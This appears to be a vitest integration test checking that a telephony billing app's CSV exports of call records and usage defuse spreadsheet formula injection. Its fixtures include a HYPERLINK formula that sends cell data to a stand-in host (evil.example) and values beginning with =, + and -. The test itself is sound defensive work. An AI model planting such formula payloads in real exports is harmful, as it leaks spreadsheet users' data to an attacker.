import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { postEvent } from '../../test/cases.js';
import { ADMIN, createTestApp, type TestApp } from '../../test/harness.js';

const HYPERLINK = '+1+HYPERLINK("http://evil.example/?leak="&A1)';
const CUSTOMER_NAME = '-1+1 Evil Corp';
const CALL_ID = '-2+3';
const CALLER = '=1+2';
const RANGE = 'from=2025-05-14T00:00:00Z&to=2025-05-15T00:00:00Z';

describe('CSV exports defuse spreadsheet formulas (real PostgreSQL)', () => {
  let t: TestApp;
  let admin: string;
  let customerId: string;

  beforeAll(async () => {
    t = await createTestApp();
    admin = await t.login(ADMIN.email, ADMIN.password);
    const imp = await t.api('POST', '/api/customers/import', {
      token: admin,
      body: {
        customers: [
          {
            name: CUSTOMER_NAME,
            accountCode: 'EVIL01',
            timezone: 'UTC',
            ips: [],
            groups: [
              {
                name: 'Main',
                externalId: 'EVIL01-MAIN',
                seats: [{ userId: 'evil-1@example.net', sipUsername: HYPERLINK, name: HYPERLINK }],
              },
            ],
          },
        ],
      },
    });
    expect(imp.status, JSON.stringify(imp.body)).toBe(200);
    const list = await t.api('GET', '/api/customers', { token: admin });
    expect(list.status).toBe(200);
    customerId = list.body.items.find((c: { accountCode: string }) => c.accountCode === 'EVIL01').id;
    // Quoted per RFC 4180, as a switch would write them.
    const q = (s: string) => `"${s.replace(/"/g, '""')}"`;
    const cdrs =
      'call_id,account,sip_user,from,to,start,billsec,disposition\n' +
      `${q(CALL_ID)},EVIL01,${q(HYPERLINK)},${q(CALLER)},+5321550101,2025-05-14T10:00:00Z,120,ANSWERED\n`;
    const r = await t.api('POST', '/api/cdrs/import?format=generic', {
      token: admin,
      raw: cdrs,
      headers: { 'content-type': 'text/csv' },
    });
    expect(r.status, JSON.stringify(r.body)).toBe(201);
    expect(r.body).toMatchObject({ imported: 1, rejected: 0 });
  });
  afterAll(() => t.close());

  it("a ticket's CDR CSV carries the hostile fields as text, not formulas", async () => {
    const ev = await postEvent(t, admin, {
      accountCode: 'EVIL01',
      evidence: { from: '2025-05-14T09:00:00Z', to: '2025-05-14T11:00:00Z' },
    });
    expect(ev.status, JSON.stringify(ev.body)).toBe(201);
    const r = await t.api('GET', `/api/tickets/${ev.body.ticketId}/cdrs.csv`, { token: admin });
    expect(r.status).toBe(200);
    const [header, ...rows]: string[][] = parse(r.body as string);
    expect(rows).toHaveLength(1);
    const row = Object.fromEntries(header.map((h, i) => [h, rows[0][i]]));
    expect(row).toMatchObject({
      call_id: `'${CALL_ID}`,
      caller_number: `'${CALLER}`,
      sip_user: `'${HYPERLINK}`,
      called_number: '+5321550101',
      called_e164: '+5321550101',
      billsec: '120',
    });
  });

  it('the usage CSV carries hostile customer and seat names as text', async () => {
    const perCustomer = await t.api('GET', `/api/usage/minutes-per-customer?${RANGE}`, {
      token: admin,
      headers: { accept: 'text/csv' },
    });
    expect(perCustomer.status).toBe(200);
    const customers: string[][] = parse(perCustomer.body as string);
    expect(customers[0]).toEqual(['key', 'label', 'calls', 'failedCalls', 'minutes', 'cost']);
    expect(customers.slice(1)).toEqual([[customerId, `'${CUSTOMER_NAME}`, '1', '0', '2.00', expect.any(String)]]);

    const perSeat = await t.api('GET', `/api/usage/minutes-per-endpoint?customerId=${customerId}&${RANGE}`, {
      token: admin,
      headers: { accept: 'text/csv' },
    });
    expect(perSeat.status).toBe(200);
    const seats: string[][] = parse(perSeat.body as string);
    expect(seats.slice(1).map((s) => s[1])).toEqual([`'${HYPERLINK}`]);
  });
});
